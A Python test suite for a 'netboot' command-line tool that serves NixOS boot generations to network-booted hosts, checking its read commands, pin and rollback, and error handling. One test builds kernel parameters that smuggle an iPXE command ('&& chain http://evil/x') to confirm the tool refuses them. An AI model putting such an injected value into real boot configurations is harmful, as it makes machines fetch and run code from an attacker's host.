"""The ``netboot`` command end to end on a demo store (README: Boot trees, Operator workflow)."""

from __future__ import annotations

import json
import os
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from appliance.cli.main import build_parser
from appliance.demo.store import make_toplevel

PI = "pi-desktop"
PI_DIR = "dc-a6-32-01-02-03/"
PI_CMDLINE = "ip=dhcp root=/dev/disk/by-label/PIROOT rootfstype=ext4 rootwait"
HOSTS_LIST = "arm-board, pc, pi-desktop"


def ok(result) -> str:
    assert result.returncode == 0, result.stderr
    return result.stdout


def js(result) -> dict:
    return json.loads(ok(result))


def one_error_line(result, code: int) -> str:
    assert result.returncode == code, (result.returncode, result.stdout, result.stderr)
    assert "Traceback" not in result.stderr
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, lines
    assert lines[0].startswith("netboot: ")
    return lines[0]


def run_all(run, commands: list[tuple[str, ...]]) -> list:
    """Independent commands, run side by side (each still its own process)."""
    with ThreadPoolExecutor(max_workers=8) as pool:
        return list(pool.map(lambda c: run(*c), commands))


def toplevels(nb, host: str) -> dict[int, Path]:
    """Generation number → toplevel, read from the demo profile's links (no CLI call)."""
    profiles = nb.layout.profiles
    out = {}
    for entry in os.listdir(profiles):
        if entry.startswith(host + "-") and entry.endswith("-link"):
            out[int(entry[len(host) + 1:-5])] = Path(os.path.realpath(profiles / entry))
    return dict(sorted(out.items(), reverse=True))


def served(nb, host: str = PI) -> tuple[int | None, str]:
    h = nb.query("status", "--json")["hosts"][host]
    return h["served"], h["reason"]


# -- help ---------------------------------------------------------------------------------


def all_commands() -> list[tuple[str, ...]]:
    parser = build_parser()
    sub = next(a for a in parser._actions if a.__class__.__name__ == "_SubParsersAction")
    out = []
    for name, p in sub.choices.items():
        out.append((name,))
        for a in p._actions:
            if a.__class__.__name__ == "_SubParsersAction":
                out += [(name, child) for child in a.choices]
    return out


def test_help(netboot_cli):
    out = ok(netboot_cli("--help"))
    for name in ("check", "generations", "tree", "cat", "pin", "unpin", "rollback", "trial", "confirm",
                 "register", "status", "serve"):
        assert name in out
    commands = all_commands()
    assert len(commands) >= 14
    for command, result in zip(commands, run_all(netboot_cli, [(*c, "--help") for c in commands])):
        assert result.returncode == 0, (command, result.stderr)
        assert f"usage: netboot {' '.join(command)}" in result.stdout


def test_no_command_is_a_usage_error(netboot_cli):
    result = netboot_cli()
    assert result.returncode == 2
    assert "usage:" in result.stderr


# -- read commands -------------------------------------------------------------------------


def test_generations_json(nb, demo_layout):
    doc = js(nb("generations", PI, "--json"))
    assert doc["host"] == PI
    assert doc["current"] == 2 and doc["served"] == 2 and doc["reason"] == "follow"
    assert [g["number"] for g in doc["generations"]] == [2, 1]
    assert all(g["valid"] and g["problems"] == [] for g in doc["generations"])
    assert [g["served"] for g in doc["generations"]] == [True, False]
    assert [g["label"] for g in doc["generations"]] == ["NixOS 25.05.2", "NixOS 25.05.1"]
    for g in doc["generations"]:
        assert Path(g["toplevel"]).is_relative_to(demo_layout.store)
        assert (Path(g["toplevel"]) / "boot.json").is_file()


def test_generations_lists_an_invalid_generation_with_its_reason(nb, demo_layout):
    tops = toplevels(nb, PI)
    os.unlink(os.path.realpath(tops[2] / "kernel"))
    doc = js(nb("generations", PI, "--json"))
    g2 = next(g for g in doc["generations"] if g["number"] == 2)
    assert g2["valid"] is False and any("kernel" in p for p in g2["problems"])
    assert doc["served"] == 1  # never served
    text = ok(nb("generations", PI))
    assert "INVALID" in text


def test_tree_json(nb, demo_layout):
    tops = toplevels(nb, PI)
    doc = js(nb("tree", PI, "--json"))
    assert doc["generation"] == 2 and doc["reason"] == "follow"
    files = doc["files"]
    kernel = files[PI_DIR + "kernel8.img"]
    assert kernel["source"] == os.path.realpath(tops[2] / "kernel")
    assert kernel["size"] == (tops[2] / "kernel").stat().st_size
    assert files[PI_DIR + "cmdline.txt"]["source"] == "generated"
    assert PI_DIR + "generations/1/kernel8.img" in files
    assert PI_DIR + "pieeprom.upd" not in files
    for path, info in files.items():
        assert path.startswith(PI_DIR)
        if info["source"] != "generated":
            real = Path(info["source"])
            assert real.is_relative_to(demo_layout.store)


def test_tree_text(nb):
    out = ok(nb("tree", PI))
    assert out.startswith(f"# {PI}: generation 2 (follow)")
    assert PI_DIR + "kernel8.img" in out


def test_cat_cmdline_is_the_golden_text(nb):
    tops = toplevels(nb, PI)
    golden = f"init={tops[2]}/init console=ttyAMA0,115200 loglevel=4 {PI_CMDLINE}\n"
    assert ok(nb("cat", PI, PI_DIR + "cmdline.txt")) == golden
    # The host directory may be left out, and a leading slash is accepted.
    assert ok(nb("cat", PI, "cmdline.txt")) == golden
    assert ok(nb("cat", PI, "/" + PI_DIR + "cmdline.txt")) == golden
    golden1 = f"init={tops[1]}/init console=ttyAMA0,115200 loglevel=4 {PI_CMDLINE}\n"
    assert ok(nb("cat", PI, "cmdline.txt", "--generation", "1")) == golden1
    assert ok(nb("cat", PI, "generations/1/cmdline.txt")) == golden1


def test_cat_binary_file(nb):
    tops = toplevels(nb, PI)
    result = nb("cat", PI, "kernel8.img", text=False)
    assert result.returncode == 0
    assert result.stdout == (tops[2] / "kernel").read_bytes()


def test_cat_config_txt(nb):
    text = ok(nb("cat", PI, "config.txt"))
    lines = [x for x in text.splitlines() if x and not x.startswith("#")]
    assert lines == ["arm_64bit=1", "kernel=kernel8.img", "initramfs initrd followkernel", "enable_uart=1",
                     "dtoverlay=vc4-fkms-v3d", "max_framebuffers=2"]


def test_cat_missing_file(nb):
    line = one_error_line(nb("cat", PI, "nope.txt"), 2)
    assert "nope.txt" in line


# -- state-changing commands -----------------------------------------------------------------


def test_pin_and_unpin_change_what_is_served(nb):
    tops = toplevels(nb, PI)
    out = ok(nb("pin", PI, "1"))
    assert "serving generation 1 (pin)" in out
    tree = js(nb("tree", PI, "--json"))
    assert tree["generation"] == 1 and tree["reason"] == "pin"
    assert tree["files"][PI_DIR + "kernel8.img"]["source"] == os.path.realpath(tops[1] / "kernel")
    assert ok(nb("cat", PI, "cmdline.txt")).startswith(f"init={tops[1]}/init ")
    hosts = js(nb("status", "--json"))["hosts"]
    status = hosts[PI]
    assert (status["served"], status["reason"], status["pin"]) == (1, "pin", 1)
    # Other hosts are untouched.
    assert (hosts["pc"]["served"], hosts["pc"]["reason"]) == (2, "follow")
    assert status["history"][-1]["event"] == "pin" and status["history"][-1]["generation"] == 1
    ok(nb("unpin", PI))
    assert served(nb) == (2, "follow")
    assert nb.query("tree", PI, "--json")["generation"] == 2


def test_pin_changes_the_uboot_menu_default(nb):
    assert "DEFAULT nixos-2" in ok(nb("cat", "arm-board", "pxelinux.cfg/01-52-54-00-12-34-56"))
    nb.inproc("pin", "arm-board", "1")
    assert "DEFAULT nixos-1" in ok(nb("cat", "arm-board", "pxelinux.cfg/01-52-54-00-12-34-56"))
    assert "choose --default nixos-2 " in nb.inproc("cat", "pc", "boot.ipxe")


def test_rollback(nb):
    out = ok(nb("rollback", PI))
    assert "serving generation 1 (pin)" in out
    status = js(nb("status", "--json"))["hosts"][PI]
    assert (status["served"], status["reason"]) == (1, "pin")
    assert status["history"][-1]["event"] == "rollback"
    line = one_error_line(nb("rollback", PI), 1)
    assert "no valid generation older than 1" in line
    assert served(nb) == (1, "pin")


def test_trial_and_confirm(nb):
    nb.inproc("pin", PI, "1")
    ok(nb("confirm", PI))
    assert nb.query("status", "--json")["hosts"][PI]["last_known_good"] == 1
    nb.inproc("unpin", PI)
    nb.inproc("pin", PI, "1")
    out = ok(nb("trial", PI, "2"))
    assert "serving generation 2 (trial)" in out
    status = js(nb("status", "--json"))["hosts"][PI]
    assert (status["served"], status["reason"]) == (2, "trial")
    assert status["trial"]["generation"] == 2
    assert status["last_known_good"] == 1
    assert nb.query("tree", PI, "--json")["generation"] == 2
    ok(nb("confirm", PI))
    status = nb.query("status", "--json")["hosts"][PI]
    assert status["trial"] is None
    assert status["last_known_good"] == 2
    assert status["served"] == 2
    assert status["history"][-1]["event"] == "trial-confirmed"


def test_state_changes_are_kept_in_the_state_directory(nb, demo_layout):
    ok(nb("pin", PI, "1"))
    doc = json.loads((demo_layout.state / "state.json").read_text())
    assert doc["hosts"][PI]["pin"] == 1


def test_register(nb, demo_layout):
    top = make_toplevel(demo_layout.store, PI, "25.11.0", kernel_size=64, initrd_size=64)
    out = ok(nb("register", PI, str(top)))
    assert "generation 3" in out
    assert served(nb) == (3, "follow")
    assert ok(nb("cat", PI, "cmdline.txt")).startswith(f"init={top}/init ")
    # Again: nothing new.
    assert "generation 3" in ok(nb("register", PI, str(top)))
    assert [g["number"] for g in nb.query("generations", PI, "--json")["generations"]] == [3, 2, 1]


def test_register_refuses_a_path_outside_the_store(nb, tmp_path):
    top = make_toplevel(Path(os.path.realpath(tmp_path)) / "elsewhere", PI, "x", kernel_size=64, initrd_size=64)
    line = one_error_line(nb("register", PI, str(top)), 1)
    assert "outside" in line
    assert served(nb) == (2, "follow")


def test_register_refuses_what_the_hosts_boot_loader_would_change(nb, demo_layout):
    """The iPXE host's boot.ipxe cannot carry '&&': register says so and adds nothing; the Pi
    (its cmdline.txt carries anything printable) takes the same toplevel."""
    top = make_toplevel(demo_layout.store, "pc", "amp", kernel_size=64, initrd_size=64,
                        kernel_params=("quiet", "&&", "chain", "http://evil/x"))
    before = nb.query("generations", "pc", "--json")["generations"]
    line = one_error_line(nb("register", "pc", str(top)), 1)
    assert "iPXE" in line and "'&&'" in line
    assert nb.query("generations", "pc", "--json")["generations"] == before
    assert "generation 3" in ok(nb("register", PI, str(top)))


# -- errors -----------------------------------------------------------------------------------


def test_unknown_host(nb):
    commands = [("generations", "nope"), ("tree", "nope"), ("cat", "nope", "cmdline.txt"), ("status", "nope"),
                ("pin", "nope", "1"), ("unpin", "nope"), ("rollback", "nope"), ("trial", "nope", "1"),
                ("confirm", "nope"), ("register", "nope", "/nix/store/x")]
    for command, result in zip(commands, run_all(nb, commands)):
        line = one_error_line(result, 2)
        assert "'nope'" in line, command
        assert HOSTS_LIST in line, command


def test_a_generation_that_does_not_exist_is_a_usage_error(nb):
    """A number typed that names no generation is a usage error (exit 2), as a host name that names
    no host is; the line lists the generations there are."""
    commands = [("tree", PI, "--generation", "9"), ("cat", PI, "cmdline.txt", "-g", "9"), ("pin", PI, "9"),
                ("trial", PI, "9"), ("tree", PI, "-g", "0"), ("pin", PI, "123456789")]
    for command, result in zip(commands, run_all(nb, commands)):
        line = one_error_line(result, 2)
        number = command[-1]
        assert f"{PI}: no generation {number} (generations: 1, 2)" in line, (command, line)
    assert served(nb) == (2, "follow")


@pytest.mark.parametrize("text", ["-1", "abc", "1e3", "1_0", "\u0663", "+2", " 2", "2.0", "0x2", "",
                                  "1" + "0" * 30, pytest.param("9" * 5000, id="5000-digits")])
def test_what_is_not_a_generation_number_is_a_usage_error(nb, text):
    """Generation numbers are what ``netboot generations`` lists: decimal digits.  Python's int()
    would read "1_0" as 10 and an Arabic-Indic three as 3, and pin those."""
    result = nb("pin", PI, text)
    assert result.returncode == 2, (result.returncode, result.stdout, result.stderr)
    assert "Traceback" not in result.stderr
    assert "is not a generation number" in result.stderr, result.stderr
    assert len(result.stderr) < 1000            # a huge argument is not echoed whole
    assert served(nb) == (2, "follow")


def test_a_bad_generation_number_is_refused_by_every_command_taking_one(nb):
    commands = [("trial", PI, "-1"), ("tree", PI, "-g", "1e3"), ("cat", PI, "cmdline.txt", "--generation", "1_0")]
    for command, result in zip(commands, run_all(nb, commands)):
        assert result.returncode == 2 and "Traceback" not in result.stderr, (command, result.stderr)
        assert f"{command[-1]!r} is not a generation number" in result.stderr, (command, result.stderr)
    assert served(nb) == (2, "follow")


def test_flags_in_the_wrong_place_are_usage_errors_that_change_nothing(nb):
    """-c and -v go before or after the command; --json, -g and --allow-destroy only after the
    command that takes them.  Anything else is exit 2 with the usage, never half a command."""
    commands = [("--json", "pin", PI, "1"), ("pin", PI, "1", "2"), ("pin", PI, "-g", "1"), ("tree", PI, "-g"),
                ("generations", PI, "--generation", "1"), ("iscsi", "--allow-destroy", "apply"),
                ("state", "repair", "extra")]
    for command, result in zip(commands, run_all(nb, commands)):
        assert result.returncode == 2 and "Traceback" not in result.stderr, (command, result.stderr)
        assert "usage: netboot" in result.stderr and "error:" in result.stderr, (command, result.stderr)
    assert served(nb) == (2, "follow")
    assert ok(nb("pin", "--json", PI, "1", "-v"))          # options after the command, in any order
    assert served(nb) == (1, "pin")


def test_an_empty_host_name_is_an_unknown_host(nb):
    """``netboot status "$HOST"`` with HOST unset must not print every host as if none was named."""
    commands = [("status", ""), ("doctor", ""), ("generations", "")]
    for command, result in zip(commands, run_all(nb, commands)):
        line = one_error_line(result, 2)
        assert "unknown host ''" in line and HOSTS_LIST in line, (command, line)


def test_a_mistyped_host_name_gets_a_suggestion(nb):
    line = one_error_line(nb("pin", "pi-Desktop", "1"), 2)
    assert "did you mean pi-desktop?" in line and HOSTS_LIST in line
    assert served(nb) == (2, "follow")


def test_a_huge_name_is_not_echoed_whole(nb):
    """A pasted blob as a host or file name: one readable line, not kilobytes of it."""
    blob = "x" * 3000
    commands = [("status", blob), ("doctor", blob), ("cat", PI, blob), ("pin", blob, "1")]
    for command, result in zip(commands, run_all(nb, commands)):
        line = one_error_line(result, 2)
        assert len(line) < 300 and "xxxx" in line and "…" in line, (command, line)


def test_register_names_what_it_was_given(nb, tmp_path):
    line = one_error_line(nb("register", PI, ""), 2)                 # "$STOREPATH" unset
    assert "store path" in line and "empty" in line
    line = one_error_line(nb("register", PI, str(tmp_path / "never-copied")), 1)
    assert f"{tmp_path}/never-copied does not exist" in line, line
    assert served(nb) == (2, "follow")


def test_an_empty_config_option_is_a_usage_error(nb, netboot_cli):
    """``-c "$CONFIG"`` with CONFIG unset must not fall back to /etc/netboot/appliance.toml."""
    line = one_error_line(netboot_cli("-c", "", "status", env={"NETBOOT_CONFIG": str(nb.layout.config)}), 2)
    assert "-c" in line and "empty" in line


def test_pin_an_invalid_generation(nb):
    tops = toplevels(nb, PI)
    os.unlink(os.path.realpath(tops[1] / "initrd"))
    line = one_error_line(nb("pin", PI, "1"), 1)
    assert "invalid" in line and "initrd" in line
    line = one_error_line(nb("tree", PI, "-g", "1"), 1)
    assert "initrd" in line


def test_every_command_that_changes_state_takes_json(nb):
    """Scripts (CI, the client module) read what a change did as they read status."""
    for args, served, reason in ((("pin", PI, "1"), 1, "pin"), (("unpin", PI), 2, "follow"),
                                 (("rollback", PI), 1, "pin"), (("trial", PI, "2"), 2, "trial"),
                                 (("confirm", PI), 2, "pin")):
        doc = js(nb(*args, "--json"))
        assert (doc["host"], doc["served"], doc["reason"]) == (PI, served, reason), (args, doc)
    doc = js(nb("state", "repair", "--json"))
    assert doc["repaired"] is False


@pytest.mark.parametrize("args, code", [
    (("pin", PI, "9"), 2),
    (("pin", "nosuch", "1"), 2),
    (("generations", "nosuch"), 2),
    (("status", "nosuch"), 2),
    (("tree", PI, "-g", "9"), 2),
])
def test_a_failure_with_json_is_a_json_error_document(nb, args, code):
    """With --json a failure is still one line on stderr, and a JSON document on stdout."""
    out = nb(*args, "--json")
    line = one_error_line(out, code)
    doc = json.loads(out.stdout)
    assert doc["error"] and doc["error"] in line and doc["kind"]


@pytest.mark.parametrize("args", [("tree", PI), ("status", "--json"), ("cat", PI, "kernel8.img")])
def test_output_that_cannot_be_written_is_one_error_line(nb, args):
    """``netboot … > file`` on a full disk: exit 1 and one line, never a traceback."""
    import subprocess

    from helpers import netboot_argv

    with open("/dev/full", "w") as full:
        out = subprocess.run(netboot_argv("-c", nb.layout.config, *args), stdout=full, stderr=subprocess.PIPE,
                             text=True, timeout=60)
    assert out.returncode == 1, out.stderr
    assert out.stderr.strip().splitlines() == ["netboot: cannot write the output: No space left on device"]


def test_a_closed_pipe_ends_quietly(nb):
    """``netboot tree HOST | head -1``: the reader left; no error, no traceback."""
    import subprocess

    from helpers import netboot_argv

    proc = subprocess.Popen(netboot_argv("-c", nb.layout.config, "cat", PI, "kernel8.img"), stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE)
    proc.stdout.read(10)
    proc.stdout.close()
    assert proc.wait(timeout=60) == 0
    assert proc.stderr.read() == b""


def test_registers_running_at_once_lose_no_generation(nb, demo_layout):
    """A client publishing while the operator registers: each toplevel gets its own generation,
    and each command's number is the generation that holds its toplevel."""
    tops = [make_toplevel(demo_layout.store, PI, f"25.11.{i}", kernel_size=64, initrd_size=64) for i in range(6)]
    results = run_all(nb, [("register", PI, str(top), "--json") for top in tops])
    numbers = [js(r)["generation"] for r in results]
    assert len(set(numbers)) == len(tops), numbers
    links = toplevels(nb, PI)
    for top, number in zip(tops, numbers):
        assert links[number] == top, (number, links)
    assert set(links) == {1, 2, *numbers}


@pytest.mark.parametrize("port", ["0", "70000", "-1", "tftp", "6_969", "\u0666\u0669\u0666\u0669", " 6969"])
def test_demo_refuses_a_port_it_cannot_print_curl_commands_for(tmp_path, netboot_cli, port):
    out = netboot_cli("demo", "--dir", tmp_path / "demo", "--port", port, "--print-only")
    assert out.returncode == 2 and "Traceback" not in out.stderr
    assert "--port" in out.stderr and "1–65535" in out.stderr
    assert not (tmp_path / "demo").exists()        # nothing built for a refused command line
